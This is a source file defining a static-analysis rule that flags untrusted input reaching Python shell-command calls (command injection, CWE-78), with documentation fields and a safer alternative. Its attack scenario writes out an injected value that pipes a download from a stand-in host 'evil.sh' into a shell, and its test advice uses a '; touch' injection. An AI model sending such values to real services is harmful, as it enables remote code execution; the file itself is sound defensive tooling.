// tainted-command: follows untrusted input to `os.system`, `os.popen`, `subprocess` with a shell or a computed program, `pty.spawn` and `asyncio.create_subprocess_shell` (data flow).
import { defineTaintRule } from '../../src/analysis/taint/define-taint-rule.js';

export default defineTaintRule({
  id: 'tainted-command',
  title: 'Untrusted input in an OS command',
  category: 'command-injection',
  cwe: ['CWE-78'],
  owasp: { '2021': ['A03:2021'], '2025': ['A05:2025'] },
  severity: 'critical',
  riskScore: 9,
  confidence: 'high',
  threat: 'integrity',
  timeline: 'immediate',
  technology: ['subprocess', 'os'],
  aliases: { bandit: ['B602', 'B605'], ruff: ['S602', 'S605'] },
  taint: { sinks: ['command'], messageId: 'tainted' },
  messages: {
    tainted:
      'Untrusted input from `{{source}}` (line {{sourceLine}}) reaches the command run by `{{sink}}`; pass an argument list without a shell.',
  },
  docs: {
    whatItDoes:
      'Follows untrusted input to `os.system`, `os.popen`, `subprocess` with a shell or a computed program, `pty.spawn` and `asyncio.create_subprocess_shell`.',
    whyBad:
      'A shell parses `;`, `|`, `&&`, `$()` and backticks in the input as new commands; a computed program name runs whatever binary the attacker names.',
    businessImpact:
      "Remote code execution with the service's privileges: data theft, ransomware, a foothold in the internal network.",
    attackScenario:
      'The attacker submits `host=8.8.8.8; curl https://evil.sh | sh` to a ping endpoint that runs `os.system("ping -c1 " + host)`.',
    example: 'os.system("ping -c 1 " + request.args["host"])',
    useInstead: 'subprocess.run(["ping", "-c", "1", host], check=True)  # host validated against a pattern first',
    testing:
      'Send `; touch /tmp/pwned` in the parameter and assert the file does not appear and the command fails cleanly.',
    knownProblems:
      'An argument list whose program is constant is not reported even when an argument is an option the program interprets (`--output=...`).',
    references: [
      'https://cwe.mitre.org/data/definitions/78.html',
      'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
      'https://docs.python.org/3/library/subprocess.html#security-considerations',
    ],
  },
});
